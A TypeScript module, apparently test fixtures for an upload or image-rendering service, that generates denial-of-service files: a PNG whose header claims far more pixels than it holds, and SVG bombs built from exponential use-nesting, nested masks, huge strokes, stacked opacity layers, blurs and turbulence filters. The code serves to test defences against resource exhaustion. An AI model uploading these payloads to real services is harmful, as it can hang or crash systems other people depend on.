/** Malicious uploads that hang or exhaust a program that opens them. */
import { deflateSync } from 'node:zlib';

const circle = '<circle cx="50" cy="50" r="40" fill="#e63946"/>';
export const drawing = (inner: string): Buffer =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">${inner}</svg>`);

/** A PNG whose header claims more pixels than the file has. */
export function pixelBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
  };
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 6, 0, 0, 0]);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
  const body = chunk('IDAT', deflateSync(Buffer.alloc(1000)));
  return Buffer.concat([signature, chunk('IHDR', header), body, chunk('IEND', Buffer.alloc(0))]);
}

export const useBomb = () => {
  const levels = Array.from({ length: 12 }, (_, level) => {
    const below = `<use href="#l${level}"/>`.repeat(10);
    return `<g id="l${level + 1}">${below}</g>`;
  });
  return drawing(`<defs><g id="l0">${circle}</g>${levels.join('')}</defs><use href="#l12"/>`);
};
export const maskBomb = () => {
  const masks = Array.from({ length: 40 }, (_, i) => {
    return `<mask id="m${i + 1}"><g mask="url(#m${i})">${circle}</g><g mask="url(#m${i})">${circle}</g></mask>`;
  });
  return drawing(`<mask id="m0">${circle}</mask>${masks.join('')}<g mask="url(#m40)">${circle}</g>`);
};
export const styledMaskBomb = () => {
  const masks = Array.from({ length: 40 }, (_, i) => {
    return `<mask id="m${i + 1}"><g class="c${i}">${circle}</g><g class="c${i}">${circle}</g></mask>`;
  });
  const rules = Array.from({ length: 41 }, (_, i) => `.c${i}{mask:url(#m${i})}`).join('');
  return drawing(`<style>${rules}</style><mask id="m0">${circle}</mask>${masks.join('')}<g class="c40">${circle}</g>`);
};

/** Strokes as wide as the drawing along many segments, so that each pixel is painted thousands of times. */
export const pathBomb = () => {
  const points = Array.from({ length: 150_000 }, (_, i) => `L${(i * 37) % 100} ${(i * 61) % 100}`).join('');
  return drawing(`<path d="M0 0${points}" stroke="red" stroke-width="90" stroke-linejoin="round" fill="none"/>`);
};
/** Each level of opacity needs its own layer, and each of these contains two. */
export const layerBomb = () => drawing(`<g opacity="0.5"><rect width="100" height="100"/>${circle}</g>`.repeat(5000));
/** Blurs of blurs, each of them as large as the drawing. */
export const blurBomb = () => {
  const blurs = '<feGaussianBlur stdDeviation="9999"/>'.repeat(50);
  return drawing(`<filter id="f">${blurs}</filter>${'<g filter="url(#f)">'.repeat(20)}${circle}${'</g>'.repeat(20)}`);
};

export const filterBomb = () => {
  const turbulence = '<feTurbulence baseFrequency="0.9" numOctaves="9999"/><feGaussianBlur stdDeviation="9999"/>';
  return drawing(`<filter id="f">${turbulence.repeat(50)}</filter><g filter="url(#f)">${circle}</g>`);
};
